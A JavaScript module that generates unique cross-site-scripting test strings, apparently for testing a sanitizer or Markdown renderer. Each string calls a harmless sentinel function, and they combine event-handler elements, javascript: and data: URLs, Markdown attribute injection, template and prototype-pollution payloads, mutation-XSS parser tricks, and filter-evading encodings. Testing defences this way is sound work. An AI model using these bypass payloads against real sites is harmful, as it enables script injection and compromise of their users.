// Strings that try to make the page run something, made by combining what such strings are made of:
// a way out of where the text stands, a carrier that would run a script, a script, and a disguise.
// Each calls the page's `sentinel` (or opens a dialog, or asks for /sentinel) with its own number.

// What is to be run; `n` tells which string it was.
const scripts = [
  (n) => `sentinel(${n})`,
  (n) => `window['sentinel'](${n})`,
  (n) => `top.sentinel?.(${n})`,
  (n) => `alert(${n})`,
  (n) => `fetch('/sentinel/${n}')`,
  (n) => `location='/sentinel/${n}'`,
  (n) => `eval('sent'+'inel(${n})')`,
  (n) => `setTimeout('sentinel(${n})')`,
  (n) => `new Image().src='/sentinel/${n}'`,
  (n) => `document.title='sentinel ${n}'`,
];

// Elements that run a handler without anybody's help, or at the slightest touch.
const elements = [
  ['img', 'src=x', 'onerror'], ['img', 'src=/favicon.svg', 'onload'], ['image', 'src=x', 'onerror'], ['svg', '', 'onload'],
  ['svg', 'viewBox=0', 'onbegin'], ['body', '', 'onload'], ['body', '', 'onpageshow'], ['input', 'autofocus', 'onfocus'],
  ['input', 'type=image src=x', 'onerror'], ['select', 'autofocus', 'onfocus'], ['textarea', 'autofocus', 'onfocus'],
  ['button', 'autofocus', 'onfocus'], ['a', 'href=# tabindex=0', 'onmouseover'], ['a', 'href=#', 'onclick'], ['p', '', 'onpointerenter'],
  ['details', 'open', 'ontoggle'], ['video', 'src=x', 'onerror'], ['audio', 'src=x', 'onerror'], ['video', 'poster=x', 'onloadstart'],
  ['iframe', '', 'onload'], ['iframe', 'src=about:blank', 'onload'], ['object', 'data=x', 'onerror'], ['embed', 'src=x', 'onerror'],
  ['link', 'rel=stylesheet href=x', 'onerror'], ['link', 'rel=stylesheet href=/', 'onload'], ['style', '', 'onload'], ['script', 'src=x', 'onerror'],
  ['marquee', '', 'onstart'], ['table', 'contenteditable', 'onclick'], ['div', 'style=animation-name:fade', 'onanimationstart'],
  ['div', 'popover', 'onbeforetoggle'], ['form', '', 'onsubmit'], ['track', 'src=x', 'onerror'], ['math', 'tabindex=0', 'onfocus'],
  ['x', 'contenteditable autofocus', 'onfocus'], ['dialog', 'open', 'onclose'],
];

// How an attribute can be written.
const attributes = [
  ([tag, more, on], run) => `<${tag} ${more} ${on}="${run}">`,
  ([tag, more, on], run) => `<${tag} ${more} ${on}=${run.replaceAll(' ', '')}>`,
  ([tag, more, on], run) => `<${tag}/${more.replaceAll(' ', '/')}/${on}='${run.replaceAll("'", '`')}'//`,
  ([tag, more, on], run) => `<${tag.toUpperCase()}\n${more}\n${on.toUpperCase()}\t=\t"${run}"\n>`,
  ([tag, more, on], run) => `<${tag} ${more} ${on}="${entities(run)}"></${tag}>`,
];

const entities = (text) => [...text].map((letter) => `&#${letter.codePointAt(0)};`).join('');
const hexadecimal = (text) => [...text].map((letter) => `&#x${letter.codePointAt(0).toString(16)}`).join('');
const percent = (text) => [...text].map((letter) => `%${letter.codePointAt(0).toString(16).padStart(2, '0')}`).join('');
const backslashes = (text) => [...text].map((letter) => `\\u${letter.codePointAt(0).toString(16).padStart(4, '0')}`).join('');
const wide = (text) => text.replace(/[<>"'=]/g, (letter) => String.fromCodePoint(letter.codePointAt(0) + 0xfee0));
const base64 = (text) => Buffer.from(text).toString('base64');

// Addresses that are programs.
const addresses = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `\u0001javascript:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `javascript&colon;${run}`,
  (run) => `&#106;avascript:${run}`,
  (run) => `javascript%3A${run}`,
  (run) => `javascript://example.org/%0a${run}`,
  (run) => `vbscript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${base64(`<script>${run}</script>`)}`,
  (run) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  (run) => `blob:${run}`,
  (run) => `view-source:javascript:${run}`,
  (run) => `feed:javascript:${run}`,
];

// Where an address can stand, in Markdown and in HTML.
const links = [
  (address) => `[click here](${address})`,
  (address) => `[click here](<${address}>)`,
  (address) => `[click here](${address} "title")`,
  (address) => `![a picture](${address})`,
  (address) => `<${address}>`,
  (address) => `[click here][1]\n\n[1]: ${address}`,
  (address) => `<a href="${address}">click here</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>go</button></form>`,
  (address) => `<meta http-equiv="refresh" content="0;url=${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text y=20>click</text></a></svg>`,
  (address) => `<base href="${address}//">`,
];

// Ends of what a careless page may have put around the text.
const ways_out = ['">', "'>", '`>', '</title>', '</textarea>', '</style>', '</script>', '</noscript>', '--!>', ']]>', '</template>', '</p></li></ol>',
  '" autofocus x="', '&quot;>', '\\">', '\\x3c/script\\x3e', '\u0000">', '\u2028', '*/', '{/*'];

const bodies = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<svg/onload=${run}>`,
  (run) => `;${run}//`,
];

// Markdown that carries HTML, or pieces of it where a name, a title or a language is expected.
const markdown = [
  (html, run) => `\`\`\`"><img src=x onerror=${run}>\n${html}\n\`\`\``,
  (html) => `\`\`\`html\n${html}\n\`\`\``,
  (html) => `\`${html}\``,
  (html) => `**${html}**`,
  (html) => `~~${html}~~ _${html}_`,
  (html) => `> ${html}`,
  (html) => `- ${html}\n  1. ${html}`,
  (html) => `# ${html}`,
  (html) => `| a | ${html} |\n|---|---|\n| ${html} | b |`,
  (html) => `[${html}](https://example.org)`,
  (html, run) => `[x](https://example.org "\\" onmouseover=${run} x=\\"")`,
  (html, run) => `[x](https://example.org/"onmouseover="${run})`,
  (html, run) => `https://example.org/"onmouseover="${run}"`,
  (html, run) => `<https://example.org/"onmouseover="${run}">`,
  (html) => `![${html}](https://example.org/a.png)`,
  (html) => `[a]: https://example.org (${html})\n\n[a]`,
  (html) => `a  \n${html}\\\n***`,
  (html) => `    ${html}`,
];

// Other languages that may read the text on its way.
const templates = [
  (run) => `{{constructor.constructor('${run.replaceAll("'", '"')}')()}}`,
  (run) => `\${${run}}`,
  (run) => `#{${run}}`,
  (run) => `<%= ${run} %>`,
  (run) => `{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"}}`,
  (run) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
  (run) => `{"type":"chat_message","content":"<script>${run}</script>"}`,
  (run) => `"}));${run};//`,
  (run) => `<style>@import 'javascript:${run}';</style>`,
  (run) => `<div style="background:url(javascript:${run});width:expression(${run})">`,
  (run) => `<style>*{background:url(/sentinel)}</style><!-- ${run} -->`,
];

// HTML that a parser mends into something else than a filter saw.
const mended = [
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  (run) => `<svg><style><img src=x onerror=${run}></style></svg>`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  (run) => `<svg><script href="data:,${run}"/></svg>`,
  (run) => `<svg><animate attributeName=href values="javascript:${run}"/><a id=x></a></svg>`,
  (run) => `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
  (run) => `<!--><img src=x onerror=${run}>-->`,
  (run) => `<![CDATA[><script>${run}</script>]]>`,
  (run) => `<?xml-stylesheet href="javascript:${run}"?>`,
  (run) => `<script type=module>import('data:text/javascript,${run}')</script>`,
  (run) => `<a id=sentinel name=innerHTML href="javascript:${run}">clobbered</a>`,
];

const disguises = [entities, hexadecimal, percent, backslashes, wide, (text) => percent(percent(text)),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'), (text) => [...text].join('\u200b'), (text) => `\u202e${text}\u202c`,
  (text) => text.replaceAll('<', '<\u0000')];

// Every family yields its combinations one after the other, each time with the next script.
function* combined(outer, inner, make) {
  let turn = 0;
  for (const a of outer) for (const b of inner) yield (n) => make(a, b, scripts[turn++ % scripts.length](n));
}

const families = () => [
  combined(attributes, elements, (attribute, element, run) => attribute(element, run)),
  combined(links, addresses, (link, address, run) => link(address(run))),
  combined(bodies, ways_out, (body, way_out, run) => way_out + body(run)),
  combined(elements.slice(0, 8), markdown, (element, place, run) => place(attributes[0](element, run), run)),
  combined(bodies, disguises, (body, disguise, run) => disguise(body(run))),
  combined([0, 1, 2, 3], templates, (_, template, run) => template(run)),
  combined([0, 1, 2], mended, (_, mend, run) => mend(run)),
];

// The families take turns until there are `count`; all are different.
export function hostileStrings(count) {
  const sources = families();
  const strings = new Set();
  while (strings.size < count) {
    const open = sources.filter((source) => {
      const { value, done } = source.next();
      if (!done && strings.size < count) strings.add(value(strings.size));
      return !done;
    });
    if (open.length === 0) throw new Error(`there are only ${strings.size}`);
  }
  return [...strings];
}
